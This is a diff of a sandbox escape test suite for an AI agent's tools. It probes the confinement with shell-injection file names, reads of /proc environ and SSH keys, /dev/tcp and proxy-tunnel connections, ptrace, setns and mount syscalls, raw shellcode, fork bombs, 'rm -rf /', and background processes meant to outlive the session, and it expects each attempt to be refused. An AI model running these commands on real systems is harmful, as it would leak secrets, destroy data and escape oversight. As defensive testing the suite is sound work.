+      expect(readFileSync(outer, 'utf8')).toBe('theirs');
+      expect(world.bench.read('was-linked.txt')).toBe('ours');
+    });
+  });
+
+  describe('by names that mean something to a shell', () => {
+    const NAMES = [
+      '$(touch pwned)',
+      '`touch pwned`',
+      '; touch pwned;',
+      "'; touch pwned; '",
+      '"; touch pwned; "',
+      '&& touch pwned',
+      '| tee pwned',
+      '> pwned',
+      'a\ntouch pwned\n',
+      '-rf',
+      '--bind',
+      '*',
+      '$HOME',
+      '!touch pwned',
+      '\\',
+    ];
+
+    test.each(NAMES.map((name) => [JSON.stringify(name), name]))('%s is only a name', async (_, name) => {
+      const file = `/names/${name}/f.txt`;
+      expect((await world.call('write_file', { path: file, content: 'one' })).isError).toBe(false);
+      expect((await world.call('read_file', { path: file })).text).toBe('one');
+      expect((await world.bash('cat f.txt; ls -a ..', { cwd: `/names/${name}` })).text).toContain('one');
+      expect((await world.call('search_files', { pattern: name, path: `/names/${name}` })).isError).toBe(false);
+      expect((await world.call('delete_path', { path: `/names/${name}`, recursive: true })).isError).toBe(false);
+      expect(world.bench.read('a.txt')).toBe('alpha\n');
+      expect([...world.bench.files().keys()].filter((path) => path.includes('pwned'))).toEqual([]);
+    });
+  });
+
+  describe('to keys in the environment', () => {
+    test.each<[string, string]>([
+      ['env', 'env'],
+      ['export', 'export -p; set'],
+      ['the process’s own', 'cat /proc/self/environ | tr "\\0" "\\n"'],
+      ['the parent’s', 'cat /proc/$PPID/environ | tr "\\0" "\\n"'],
+      ['the first process’s', 'cat /proc/1/environ | tr "\\0" "\\n"'],
+      ['every process’s', 'cat /proc/*/environ /proc/*/task/*/environ 2>/dev/null | tr "\\0" "\\n"'],
+      ['every process’s arguments', 'cat /proc/*/cmdline | tr "\\0" "\\n" | cut -c1-60'],
+      ['Node', node('console.log(process.env)')],
+    ])('%s', async (_, command) => {
+      // The path has the program's own folders.
+      const { text } = await world.call('bash', { command }, ROOT);
+      expect(text).not.toMatch(/OPENAI|SCRIPTED|AWS_|MY_TOKEN|CANARY/);
+      expect(text).toMatch(/PATH|bwrap|\w/);
+    });
+
+    test('the server’s', async () => {
+      expect((await world.bash(`cat /proc/${world.pid}/environ`)).text).toMatch(REFUSED);
+    });
+
+    test('code', async () => {
+      expect((await world.javascript('typeof process + typeof require')).text).toMatch(/^undefinedundefined/);
+    });
+
+    testWithPython('the keyring of the login session, which the kernel keeps', async () => {
+      const key = `import ctypes, os, sys
+libc = ctypes.CDLL(None)
+numbers = (250, 248) if os.uname().machine == "x86_64" else (219, 217)
+libc.syscall(numbers[0], 1, None)
+libc.syscall(numbers[1], b"user", b"roundtrip-key", os.environ["KEY"].encode(), len(os.environ["KEY"]), -3)
+os.execvp(sys.argv[1], sys.argv[1:])`;
+      const other = await EscapeBench.start({ through: ['env', 'KEY=CANARY-keyring', 'python3', '-c', key] });
+      onTestFinished(() => other.stop());
+      const { text } = await other.bash(
+        python(`${SYSTEM_CALL}
+key = call(250, 219, 10, -3, b"user", b"roundtrip-key", 0)
+content = ctypes.create_string_buffer(100)
+call(250, 219, 11, key, content, 100)
+print(content.value)
+call(248, 217, b"user", b"roundtrip-planted", b"x", 1, -3)`),
+      );
+      expect(text).not.toContain('CANARY');
+      expect(text.match(/-1 Operation not permitted/g)).toHaveLength(3);
+      other.expectUntouched();
+    });
+  });
+
+  describe('over the network', () => {
+    const PROXY = 'new URL(process.env.HTTP_PROXY)';
+    const socket = (options: string, text = 'x') =>
+      node(`require('net').connect(${options}, function () { this.end(${JSON.stringify(text)}) })
+        .on('data', (data) => console.log(String(data).slice(0, 200))).on('error', (error) => console.error(error.code))`);
+
+    test.each<[string, () => string, RegExp]>([
+      ['TCP with bash', () => `echo x > /dev/tcp/127.0.0.1/${world.tcpPort}`, NO_NETWORK],
+      ['UDP with bash', () => `echo x > /dev/udp/127.0.0.1/${world.udpPort}; ls /sys/class/net`, /^lo$|no output|^$/m],
+      ['TCP with Node', () => socket(`${world.tcpPort}, '127.0.0.1'`), NO_NETWORK],
+      ['TCP over IPv6', () => socket(`${world.tcpPort}, '::ffff:127.0.0.1'`), NO_NETWORK],
+      ['TCP to any address', () => socket(`${world.tcpPort}, '0.0.0.0'`), NO_NETWORK],
+      ['TCP to an address of the internet', () => socket(`443, '1.1.1.1'`), NO_NETWORK],
+      ['TCP to a host of the cloud', () => socket(`80, '169.254.169.254'`), NO_NETWORK],
+      [
+        'UDP with Node',
+        () =>
+          node(`const socket = require('dgram').createSocket('udp4');
+            socket.send('x', ${world.udpPort}, '127.0.0.1', (error) => { console.log(error?.code ?? 'sent to nobody'); socket.close(); })`),
+        /sent to nobody|ENETUNREACH|EPERM/,
+      ],
+      ['DNS', () => node(`require('dns').lookup('example.com', (error) => console.log(error?.code))`), NO_NETWORK],
+      [
+        'DNS to a server of ours',
+        () =>
+          node(`const resolver = new (require('dns').Resolver)({ timeout: 200, tries: 1 });
+            resolver.setServers(['127.0.0.1:${world.udpPort}']);
+            resolver.resolve4('secret.example.com', (error) => console.log(error?.code))`),
+        /ECONNREFUSED|ETIMEOUT/,
+      ],
+      ['a socket outside', () => socket(JSON.stringify(world.unixSocket)), NO_NETWORK],
+      ['a socket in the folder', () => socket(JSON.stringify(world.socketInFolder)), NO_NETWORK],
+      ['a socket without a file', () => socket(JSON.stringify({ path: world.abstractSocket })), NO_NETWORK],
+      [
+        'a socket of its own',
+        () => node(`require('net').createServer().listen('own.sock').on('error', (error) => console.log(error.code))`),
+        /EPERM/,
+      ],
+      ['socat', () => `socat -T1 - UNIX-CONNECT:host.sock; socat -T1 - TCP:127.0.0.1:${world.tcpPort}`, NO_NETWORK],
+      [
+        'the socket of the sandbox’s proxy',
+        () =>
+          socket(
+            `require('fs').readdirSync('/tmp').map((name) => '/tmp/' + name).find((name) => /sock$/.test(name)) ?? '/tmp/none'`,
+          ),
+        NO_NETWORK,
+      ],
+      [
+        'a request to the sandbox’s proxy',
+        () => socket(`${PROXY}.port, '127.0.0.1'`, `GET http://127.0.0.1:${world.tcpPort}/ HTTP/1.0\r\n\r\n`),
+        /407|403|no output/,
+      ],
+      [
+        'a tunnel through the sandbox’s proxy',
+        () =>
+          node(`const proxy = ${PROXY};
+            require('http').request({ host: '127.0.0.1', port: proxy.port, method: 'CONNECT', path: '127.0.0.1:${world.tcpPort}',
+              headers: { 'proxy-authorization': 'Basic ' + Buffer.from(decodeURIComponent(proxy.username) + ':' + proxy.password).toString('base64') } })
+              .on('connect', ({ statusCode }) => { console.log(statusCode); process.exit(); })
+              .on('error', (error) => console.log(error.code)).end()`),
+        /403|ECONNRESET/,
+      ],
+      [
+        'SOCKS through the sandbox’s proxy',
+        () =>
+          node(`const socket = require('net').connect(1080, '127.0.0.1', () => socket.write(Buffer.from([5, 1, 0])));
+            socket.once('data', () => socket.write(Buffer.from([5, 1, 0, 1, 127, 0, 0, 1, ${world.tcpPort >> 8}, ${world.tcpPort & 255}])));
+            socket.on('data', (data) => console.log('reply', data[1])).on('close', () => console.log('closed')).on('error', (error) => console.log(error.code));
+            setTimeout(() => process.exit(), 1000).unref()`),
+        /reply [^0]|closed|ECONNRESET/,
+      ],
+      [
+        'curl with the proxy',
+        () => `command -v curl > /dev/null && curl -sS -m 2 http://127.0.0.1:${world.tcpPort}/ || echo refused`,
+        /refused|connect|curl/,
+      ],
+    ])('%s', async (_, command, says) => {
+      expect((await world.bash(command(), { timeout: 10 })).text).toMatch(says);
+    });
+
+    testWithPython.each<[string, () => string]>([
+      ['TCP', () => `socket.create_connection(("127.0.0.1", ${world.tcpPort}), 2)`],
+      ['a socket in the folder', () => 's = socket.socket(socket.AF_UNIX); s.connect("host.sock")'],
+      ['raw packets', () => 'socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'],
+      [
+        'raw IP',
+        () =>
+          'socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); raise OSError("Operation not permitted") if not open("/proc/net/dev").read().count("eth") else None',
+      ],
+      ['the host of the machine', () => 'socket.socket(socket.AF_VSOCK).connect((2, 22))'],
+      ['a name', () => 'socket.getaddrinfo("example.com", 80)'],
+    ])('%s with Python', async (_, code) => {
+      expect((await world.bash(python(`import socket; ${code()}`))).text).toMatch(NO_NETWORK);
+    });
+
+    testWithPython('a system call of 32 bits, which would open a socket of this machine', async () => {
+      const { text } = await world.bash(
+        python(`import ctypes, mmap, platform
+if platform.machine() != "x86_64": raise SystemExit(159)
+code = bytes.fromhex("53b867010000bb01000000b901000000ba00000000cd805bc3")
+memory = mmap.mmap(-1, 4096, prot=7)
+memory.write(code)
+print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))())`),
+      );
+      expect(text).toMatch(REFUSED);
+    });
+  });
+
+  describe('by /proc', () => {
+    test.each<[string, () => string, RegExp]>([
+      ['the first process’s root', () => `cat /proc/1/root${world.outside}/secret.txt`, REFUSED],
+      ['the first process’s directory', () => 'ls /proc/1/cwd/', REFUSED],
+      ['a process’s own root', () => `cat /proc/self/root${world.home}/notes.txt`, REFUSED],
+      ['the server’s root', () => `cat /proc/${world.pid}/root/etc/passwd`, REFUSED],
+      ['the server’s directory', () => `ls /proc/${world.pid}/cwd/`, REFUSED],
+      ['the server’s memory', () => `head -c 10 /proc/${world.pid}/mem`, REFUSED],
+      ['the server’s open files', () => `ls /proc/${world.pid}/fd`, REFUSED],
+      [
+        'all processes’ open files',
+        () => 'readlink /proc/[0-9]*/fd/* | grep -v -e ^pipe: -e ^/dev/null -e ^socket: -e ^anon_inode:',
+        /^\[exit code 1\]$/,
+      ],
+      ['the first process’s memory', () => 'head -c 10 /proc/1/mem', REFUSED],
+      ['the kernel’s memory', () => 'head -c 10 /proc/kcore /dev/mem', REFUSED],
+      // Whatever is written here is what is there already.
+      ['a program for crashes', () => 'cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern', REFUSED],
+      ['settings of the memory', () => 'cat /proc/sys/vm/swappiness > /proc/sys/vm/swappiness', REFUSED],
+      ['keys of the kernel', () => 'cat /proc/keys', REFUSED],
+      ['a program for hot-plugged devices', () => 'echo /bin/sh > /sys/kernel/uevent_helper', REFUSED],
+      ['key combinations', () => 'echo h > /proc/sysrq-trigger', REFUSED],
+      ['groups of processes', () => 'mkdir /sys/fs/cgroup/escape', REFUSED],
+      ['mounts', () => 'cut -d" " -f2 /proc/self/mounts | grep -c "^/home$"', /^0/],
+    ])('%s', async (_, command, says) => {
+      expect((await world.bash(command())).text).toMatch(says);
+    });
+
+    test('nothing is shared with the machine’s own processes', async () => {
+      const names = ['ipc', 'mnt', 'net', 'pid', 'user'];
+      const { text } = await world.bash(`cd /proc/self/ns; for name in ${names.join(' ')}; do readlink $name; done`);
+      expect(text.split('\n')).toHaveLength(names.length);
+      for (const name of names) expect(text).not.toContain(readlinkSync(`/proc/self/ns/${name}`));
+    });
+  });
+
+  describe('to other processes', () => {
+    test.each<[string, () => string, RegExp]>([
+      ['a signal to the server', () => `kill -9 ${world.pid}`, /No such process/],
+      ['a signal to another process', () => `kill -9 ${world.bystander.pid}`, /No such process/],
+      ['a signal to all', () => 'kill -9 -1', /^Not run\. It would end every process/],
+      ['a signal to its group', () => 'kill -KILL 0', /^\[exit code 137\]$/],
+      ['by name', () => `pkill -9 -f 'slee[p] ${world.bystander.spawnargs[1]}'; echo $?`, /^1$|not found/m],
+      ['another priority', () => `renice -n 19 -p ${world.bystander.pid}`, /No such process|not found/],
+      [
+        'a debugger',
+        () => `gdb -p ${world.pid} -batch || strace -p ${world.pid} || echo none`,
+        /none|No such process|not found/,
+      ],
+    ])('%s', async (_, command, says) => {
+      expect((await world.bash(command())).text).toMatch(says);
+      expect((await world.call('list_directory', { path: '/' })).text).toContain('a.txt');
+    });
+
+    testWithPython.each<[string, () => string]>([
+      ['ptrace', () => `call(101, 117, 16, ${world.pid}, 0, 0)`],
+      [
+        'reading their memory',
+        () => `call(310, 270, ${world.pid}, 0, 0, 0, 0, 0); call(101, 117, 16, ${world.bystander.pid}, 0, 0)`,
+      ],
+      ['a handle', () => `call(434, 434, ${world.pid}, 0)`],
+      ['ending the first process of the sandbox’s', () => 'call(101, 117, 16, 1, 0, 0)'],
+    ])('%s', async (_, code) => {
+      expect((await world.bash(python(SYSTEM_CALL + code()))).text).toMatch(
+        /-1 (No such process|Operation not permitted|Invalid argument)|^0 Success/,
+      );
+    });
+
+    testWithPython('shared memory', async () => {
+      const key = 0x1234567;
+      const { text } = await world.bash(python(`${SYSTEM_CALL}call(29, 194, ${key}, 100, 0o1666)`));
+      expect(text).toMatch(/^\d+ Success/);
+      expect(readFileSync('/proc/sysvipc/shm', 'utf8')).not.toContain(String(key));
+    });
+
+    test('files in memory', async () => {
+      await world.bash('echo x > /dev/shm/roundtrip-escape; ls /dev/shm');
+      expect(existsSync('/dev/shm/roundtrip-escape')).toBe(false);
+    });
+  });
+
+  describe('to write outside', () => {
+    const name = `roundtrip-escape-${process.pid}`;
+    test.each<[string, () => string]>([
+      ['temporary files', () => `/tmp/${name}`],
+      ['other temporary files', () => `/var/tmp/${name}`],
+      ['home', () => join(world.home, name)],
+      ['the settings of a shell in home', () => join(world.home, '.bashrc')],
+      ['home’s keys', () => join(world.home, '.ssh/authorized_keys')],
+      ['logs in home', () => join(world.home, '.npm/_logs', name)],
+      ['what confined programs share', () => join(world.shared, name)],
+      ['the user’s own home', () => join(userInfo().homedir, name)],
+      ['settings of the system', () => `/etc/${name}`],
+      ['regular tasks', () => `/etc/cron.d/${name}`],
+      ['programs', () => `/usr/local/bin/${name}`],
+      ['the program’s own code', () => join(ROOT, `lib/${name}.ts`)],
+      ['the program’s own packages', () => join(ROOT, `node_modules/${name}`)],
+      ['next to the folder', () => join(world.outside, name)],
+      ['the parent', () => join(world.bench.outside, name)],
+      ['the root', () => `/${name}`],
+    ])('%s', async (_, place) => {
+      const target = quoted(place());
+      const { text } = await world.bash(
+        `mkdir -p "$(dirname ${target})" && echo x > ${target}; cp a.txt ${target}; ln -s a.txt ${target}; ls ${target}`,
+      );
+      // Some of them are there for programs, in memory.
+      expect(text).toMatch(REFUSED.test(text) ? REFUSED : /roundtrip-escape|\.bashrc|authorized_keys/);
+      expect(existsSync(place())).toBe(false);
+    });
+
+    test.each<[string, () => string]>([
+      ['overwriting', () => `echo x > ${world.outside}/f.txt`],
+      ['appending', () => `echo x >> ${world.home}/notes.txt`],
+      ['opening', () => `: >> ${join(ROOT, 'package.json')}`],
+      ['deleting', () => `rm -r ${world.outside}`],
+      ['moving away', () => `mv ${world.outside} .`],
+      ['permissions', () => `chmod $(stat -c %a ${join(ROOT, 'package.json')}) ${join(ROOT, 'package.json')}`],
+      ['times', () => `touch -r ${join(ROOT, 'package.json')} ${join(ROOT, 'package.json')}`],
+      ['the folder itself', () => `mv ${world.folder} ${world.folder}-2`],
+      ['a device', () => 'mknod disk b 254 0'],
+    ])('%s', async (_, command) => {
+      expect((await world.bash(command(), {})).text).toMatch(/Read-only|No such file|not permitted|busy|cannot/);
+    });
+  });
+
+  describe('to read outside', () => {
+    test.each<[string, () => string]>([
+      ['a key in home', () => 'cat ~/.ssh/id_test'],
+      ['a key in home by its path', () => `cat ${world.home}/.ssh/id_test`],
+      ['home', () => 'ls -A ~ && cat ~/notes.txt'],
+      ['logs in home', () => 'cat ~/.npm/_logs/debug.log'],
+      ['next to the folder', () => 'cat ../outside/secret.txt'],
+      ['next to the folder by its path', () => `cat ${world.outside}/secret.txt`],
+      ['other temporary files', () => `cat ${world.otherTemporary}/secret.txt`],
+      ['what confined programs share', () => `cat ${world.sharedFile}`],
+      [
+        'the user’s own home',
+        () =>
+          `ls -A ${userInfo().homedir} | grep -v -x -e .cargo; cat ${userInfo().homedir}/.profile ${userInfo().homedir}/.bashrc`,
+      ],
+      ['archives', () => `tar -cf stolen.tar ../outside ${world.home}`],
+      ['a server of git’s', () => `git clone -q ${world.outside} stolen || cat ../outside/f.txt`],
+    ])('%s', async (_, command) => {
+      expect((await world.bash(command())).text).toMatch(REFUSED);
+    });
+
+    test('a search of everything', async () => {
+      const places = `/tmp /var/tmp /home /run/user ${world.bench.outside}`;
+      const { text } = await world.bash(`grep -rl ${world.secret.slice(0, 20)} ${places} 2>/dev/null | head`);
+      expect(text).toBe('[no output, exit code 0]');
+    });
+
+    test('the types of packages, which a checker of JavaScript would install from the network', async () => {
+      await world.call('write_file', { path: '/app.js', content: "import pad from 'left-pad';\npad();\n" });
+      expect((await world.call('get_diagnostics', { path: '/app.js' })).isError).toBe(false);
+      expect(readdirSync(world.home).sort()).toEqual(['.npm', '.ssh', 'notes.txt']);
+    });
+
+    // The language server is no confined program: it reads modules wherever they are, and an error may quote them.
+    test('a module, by the errors of a file that imports it', async () => {
+      await world.call('write_file', {
+        path: '/leak.ts',
+        content: "import { KEY } from '../outside/secret';\nexport const leak: 'none' = KEY;\n",
       });
-      for (const [tool, input] of WRITING) {
-        await refused(tool, input('/exchanged/secret.txt'));
-        await attempt(tool, input('/exchanged.txt'));
-        rmSync(join(bench.folder, 'exchanged.txt'), { force: true });
-        symlinkSync('../others/secret.txt', join(bench.folder, 'exchanged.txt'));
-      }
-      for (const [tool, input] of READING) await attempt(tool, input('/exchanged.txt'));
-    });
-
-    test.each([
-      'cat file-link',
-      'cat folder-link/secret.txt',
-      'cat ../others/secret.txt',
-      'echo written > file-link',
-      'echo written > dangling-link',
-      'cp plain.txt folder-link/',
-      'touch root-link/usr/escaped',
-      'ln file-link hard && cat hard',
-    ])('%s', async (command) => {
-      await refused('bash', { command });
+      const { text } = await world.call('get_diagnostics', { path: '/leak.ts' });
+      expect(text).not.toContain('CANARY');
     });
   });
-});
 
-describe('races', () => {
-  /** A program of its own exchanges an entry of the folder for a symlink and back, as fast as it can. */
-  async function whileExchanging(name: string, target: string, use: (round: number) => Promise<unknown>) {
-    const script = `
-      const { existsSync, renameSync, rmSync, symlinkSync, unlinkSync } = require('node:fs');
-      const [place, target] = process.argv.slice(1);
-      for (let rounds = 1; ; rounds++) {
-        try {
-          symlinkSync(target, place + '.link');
-          renameSync(place, place + '.kept');
-          renameSync(place + '.link', place);
-          unlinkSync(place);
-          renameSync(place + '.kept', place);
-        } catch {
-          // A tool was faster, and has made something in this place.
-          rmSync(place + '.link', { force: true });
-          if (existsSync(place + '.kept')) {
-            rmSync(place, { recursive: true, force: true });
-            renameSync(place + '.kept', place);
-          }
-        }
-        if (rounds % 100 === 0) process.stdout.write('.');
-      }`;
-    const racer = spawn(process.execPath, ['-e', script, join(bench.folder, name), target], {
-      stdio: ['ignore', 'pipe', 'inherit'],
-    });
-    let dots = 0;
-    racer.stdout.on('data', (data: Buffer) => {
-      dots += data.length;
-    });
-    try {
-      await vi.waitFor(() => expect(dots).toBeGreaterThan(0));
-      const end = Date.now() + RACE_MS;
-      let round = 0;
-      while (Date.now() < end) await use(round++);
-      expect(racer.exitCode, 'the other program still runs').toBeNull();
-      expect(dots).toBeGreaterThan(1);
-      return round;
-    } finally {
-      racer.kill('SIGKILL');
-      await vi.waitFor(() => expect(racer.exitCode ?? racer.signalCode).not.toBeNull());
-    }
-  }
+  describe('by what stays behind', () => {
+    const loop = (mark: string) => `while :; do date >> late.txt; sleep 0.1${mark}; done`;
 
-  test('a folder that is exchanged for a symlink: nothing outside is written', async () => {
-    bench.write({ 'race/secret.txt': 'secret\n', 'race/below/secret.txt': 'secret\n' });
-    let worked = 0;
-    const rounds = await whileExchanging('race', outside.folder, async (round) => {
-      const answers = await Promise.all([
-        attempt('write_file', { path: `/race/new-${round}.txt`, content: 'written' }),
-        attempt('write_file', { path: '/race/below/secret.txt', content: 'written' }),
-        attempt('edit_file', { path: '/race/secret.txt', find: 'secret', replace: 'secret' }),
-        attempt('make_directory', { path: `/race/made-${round}` }),
-        attempt('move_path', { from: `/race/new-${round}.txt`, to: `/race/below/moved-${round}.txt` }),
-        attempt('delete_path', { path: '/race/below/secret.txt' }),
-      ]);
-      worked += answers.filter(({ hasFailed }) => !hasFailed).length;
+    test.each<[string, (script: string) => string]>([
+      ['in the background', (script) => `(${script}) & echo started`],
+      ['without a terminal', (script) => `nohup bash -c ${quoted(script)} > /dev/null 2>&1 & echo started`],
+      ['in a session of its own', (script) => `setsid bash -c ${quoted(script)} > /dev/null 2>&1 & echo started`],
+      ['forked twice', (script) => `(setsid bash -c ${quoted(`(${script}) &`)} > /dev/null 2>&1 &) ; echo started`],
+      [
+        'without its parent',
+        (script) => `bash -c ${quoted(`(${script}) & disown -a; exit`)} > /dev/null; echo started`,
+      ],
+      [
+        'deaf to signals',
+        (script) => `(trap "" TERM HUP INT; setsid bash -c ${quoted(script)}) > /dev/null 2>&1 & echo started`,
+      ],
+      [
+        'from Node',
+        (script) =>
+          `${node(`require('child_process').spawn('bash', ['-c', ${JSON.stringify(script)}], { detached: true, stdio: 'ignore' }).unref()`)}; echo started`,
+      ],
+      ['holding the output', (script) => `(${script}) & echo started`],
+    ])('%s: it ends with the command', async (_, command) => {
+      const mark = `00${Date.now()}`;
+      expect((await world.bash(command(loop(mark)))).text).toBe('started');
+      await expect.poll(() => isRunningWith(mark), { timeout: 5_000 }).toBe(false);
     });
-    expect(rounds).toBeGreaterThan(5);
-    expect(worked).toBeGreaterThan(0);
+
+    test('past the time limit', async () => {
+      const mark = `00${Date.now()}`;
+      const { text, isError } = await world.bash(`trap "" TERM; setsid bash -c ${quoted(loop(mark))} & ${loop(mark)}`, {
+        timeout: 1,
+      });
+      expect(isError).toBe(true);
+      expect(text).toMatch(/^The command was stopped after 1 second/);
+      await expect.poll(() => isRunningWith(mark), { timeout: 5_000 }).toBe(false);
+    });
+
+    test.each<[string, (other: EscapeBench) => unknown]>([
+      ['ends', (other) => other.client.end()],
+      ['is killed', (other) => other.client.child.kill('SIGKILL')],
+    ])('after the server: if it %s, nothing goes on', async (_, end) => {
+      const other = await EscapeBench.start();
+      onTestFinished(() => other.stop());
+      await other.javascript('setInterval(() => {}, 10)');
+      void other.bash('sleep 2; touch late').catch(() => undefined);
+      const isRunning = () => isRunningWith(other.bench.outside);
+      await expect.poll(isRunning, { timeout: 5_000 }).toBe(true);
+      await end(other);
+      await expect.poll(isRunning, { timeout: 5_000 }).toBe(false);
+    });
+
+    test('regular tasks', async () => {
+      const { text } = await world.bash(
+        '(echo "* * * * * touch /tmp/x" | crontab - ; echo touch x | at now) 2>&1; systemctl --user list-units 2>&1 | head -1',
+      );
+      expect(text).toMatch(/not found|denied|No such|not been booted|Failed|can't|Read-only|no output/i);
+    });
   });
 
-  test('a folder that is exchanged for a symlink: nothing outside is read', async () => {
-    bench.write({ 'reading/secret.txt': 'inside\n', 'reading/below/secret.txt': 'inside\n' });
-    let worked = 0;
-    await whileExchanging('reading', outside.folder, async () => {
-      const answers = await Promise.all([
-        attempt('read_file', { path: '/reading/secret.txt' }),
-        attempt('read_file', { path: '/reading/below/secret.txt' }),
-        attempt('list_directory', { path: '/reading', recursive: true }),
-        attempt('search_text', { path: '/reading', pattern: 'outside' }),
-        attempt('copy_path', { from: '/reading', to: `/copied-${calls}` }),
-      ]);
-      worked += answers.filter(({ hasFailed }) => !hasFailed).length;
+  describe('by mounting', () => {
+    test.each<[string, () => string]>([
+      ['a file system', () => 'mkdir -p m; mount -t tmpfs none m'],
+      ['the folder’s own settings aside', () => 'umount -l .roundtrip'],
+      ['git’s settings aside', () => 'umount -l .git/config'],
+      ['another folder', () => `mkdir -p m; mount --bind ${world.outside} m`],
+      ['with a new namespace', () => 'unshare -m -r true'],
+      ['with a user of its own', () => 'unshare -U true'],
+      ['another sandbox', () => 'bwrap --dev-bind / / ls /root'],
+      ['another root', () => 'mkdir -p m; chroot m ls; chroot /proc/1/root ls /'],
+      ['a namespace of another process', () => `nsenter -t 1 -m ls; nsenter -t ${world.pid} -m ls`],
+    ])('%s', async (_, command) => {
+      expect((await world.bash(command())).text).toMatch(
+        /not permitted|denied|No such|must be superuser|No permissions|not found|cannot open/,
+      );
     });
-    expect(worked).toBeGreaterThan(0);
-    for (const text of bench.files().values()) expect(text).not.toContain(SECRETS.outside);
-  });
 
-  test('a file that is exchanged for a symlink', async () => {
-    bench.write({ 'raced.txt': 'secret\n' });
-    let worked = 0;
-    await whileExchanging('raced.txt', outside.secret, async () => {
-      const answers = await Promise.all([
-        attempt('read_file', { path: '/raced.txt' }),
-        attempt('write_file', { path: '/raced.txt', content: 'secret\n' }),
-        attempt('edit_file', { path: '/raced.txt', find: 'secret', replace: 'secret' }),
-        attempt('copy_path', { from: '/raced.txt', to: `/raced-${calls}` }),
-      ]);
-      worked += answers.filter(({ hasFailed }) => !hasFailed).length;
-    });
-    expect(worked).toBeGreaterThan(0);
-    for (const text of bench.files().values()) expect(text).not.toContain(SECRETS.outside);
-  });
-
-  describe('with commands', () => {
-    needsConfinement();
-
-    test('a folder that is exchanged while commands run in it', async () => {
-      bench.write({ 'racing/secret.txt': 'inside\n' });
-      await whileExchanging('racing', outside.folder, (round) =>
-        attempt('bash', { command: `cat secret.txt; echo written > new-${round}.txt`, cwd: '/racing' }),
+    testWithPython.each<[string, string]>([
+      ['mount', 'call(165, 40, b"none", b"m", b"tmpfs", 0, 0)'],
+      ['unshare', 'call(272, 97, 0x10020000)'],
+      ['setns', 'call(308, 268, os.open("/proc/1/ns/mnt", 0), 0)'],
+      ['pivot_root', 'call(155, 41, b".", b".")'],
+      ['open_tree', 'call(428, 428, -100, b"/", 1)'],
+      [
+        'a file by its number',
+        'handle = (ctypes.c_uint * 4)(8, 1, 2, 0); call(304, 265, os.open("a.txt", 0), handle, 0)',
+      ],
+      ['a module of the kernel', 'call(175, 105, b"x", 1, b"")'],
+      ['a filter in the kernel', 'call(321, 280, 5, ctypes.create_string_buffer(120), 120)'],
+      ['memory of the kernel', 'call(425, 425, 8, ctypes.create_string_buffer(120))'],
+      ['rebooting', 'call(169, 142, 0, 0, 0, 0)'],
+    ])('%s', async (_, code) => {
+      expect((await world.bash(python(SYSTEM_CALL + code))).text).toMatch(
+        /^-1 |Permission denied|Operation not permitted|Bad system call/m,
       );
     });
   });
-});
 
-describe('metacharacters', () => {
-  const NAMES = [
-    'line\nbreak.txt',
-    'quotes"and\'more.txt',
-    '$(touch pwned)',
-    '`touch pwned`',
-    '; touch pwned;',
-    '| touch pwned',
-    "'; touch pwned; '",
-    '"; touch pwned; "',
-    '&& touch pwned',
-    '-rf',
-    '--help',
-    '--pre=touch',
-    '*',
-    '{a,b}',
-    '!touch',
-    '%s%n%x',
-    '\u202egnp.txt',
-    '\u001b]0;title\u0007',
-  ];
-
-  test.each(NAMES)('a file named %j is only a file', async (name) => {
-    const path = `/${name}`;
-    const { hasFailed } = await attempt('write_file', { path, content: 'content of a file' });
-    if (!hasFailed) {
-      expect(bench.read(name)).toBe('content of a file');
-      expect((await attempt('read_file', { path })).content).toBe('content of a file');
-      for (const [tool, input] of READING) await attempt(tool, input(path));
-      rmSync(join(bench.folder, 'copied'), { recursive: true, force: true });
-      await attempt('move_path', { from: path, to: `${path}/` });
-      expect((await attempt('delete_path', { path })).hasFailed).toBe(false);
-    }
-    for (const tool of ['search_text', 'search_files']) await attempt(tool, { pattern: name, path: '/' });
-    await attempt('search_text', { pattern: 'plain', glob: name });
-    expect(bench.read('pwned')).toBeUndefined();
-    expect(bench.read('plain.txt')).toBe('plain\n');
-  });
-
-  describe('in commands', () => {
-    needsConfinement();
-
-    test.each(NAMES)('a command in a folder named %j runs there', async (name) => {
-      mkdirSync(join(bench.folder, name));
-      const { content } = await attempt('bash', { command: 'touch ran; ls', cwd: `/${name}` });
-      expect(content).toBe('ran');
-      expect(readdirSync(join(bench.folder, name))).toEqual(['ran']);
-      expect(bench.read('pwned')).toBeUndefined();
-      rmSync(join(bench.folder, name), { recursive: true });
+  describe('by using up resources', () => {
+    test.each<[string, string, RegExp]>([
+      ['a fork bomb', ':(){ :|:& };:', /^Not run\. The function ":" starts itself again and again/],
+      ['a fork bomb with a name', 'bomb() { bomb | bomb & }; bomb', /^Not run\. The function "bomb"/],
+      ['the whole folder', 'rm -rf /', /^Not run\./],
+      ['the whole folder by its name', 'rm -rf "$PWD"/* .', /^Not run\./],
+      ['a disk', 'dd if=/dev/zero of=/dev/sda', /^Not run\./],
+      ['the machine', 'shutdown -h now', /^Not run\./],
+    ])('%s is refused', async (_, command, says) => {
+      const { text, isError } = await world.bash(command);
+      expect(isError).toBe(true);
+      expect(text).toMatch(says);
+      expect(world.bench.read('a.txt')).toBe('alpha\n');
     });
 
-    test.each([
-      `cat '$(cat ../others/secret.txt)'`,
-      `cat -- '-e;../others/secret.txt'`,
-      `ls $'line\\n../others'`,
-      `bash -c 'cat "$1"' - ../others/secret.txt`,
-      `cat ../../*/others/secret.txt`,
-      `cat "$(dirname "$PWD")/others/secret.txt"`,
-      `cat < ../others/secret.txt`,
-    ])('%s', async (command) => {
-      await refused('bash', { command });
+    test('output without end is cut, and the command ended', async () => {
+      const { text, isError } = await world.bash('yes 0123456789', { timeout: 1 });
+      expect(isError).toBe(true);
+      expect(text).toMatch(/^The command was stopped after 1 second/);
+      expect(text.length).toBeLessThan(10_000);
     });
-  });
-});
 
-describe('the environment', () => {
-  /** Long output is cut, so only the lines with keys are printed. */
-  const keysOf = (command: string) => `{ ${command}; } 2>/dev/null | tr '\\0' '\\n' | grep -a _KEY; false`;
+    test('much output is cut in the middle', async () => {
+      const { text } = await world.bash('head -c 50000000 /dev/zero | tr "\\0" x; echo end');
+      expect(text.length).toBeLessThan(50_000);
+      expect(text).toMatch(/omitted/);
+      expect(text).toMatch(/end$/);
+    });
 
-  describe('in commands', () => {
-    needsConfinement();
+    test('a loop without end is ended, and so is code', async () => {
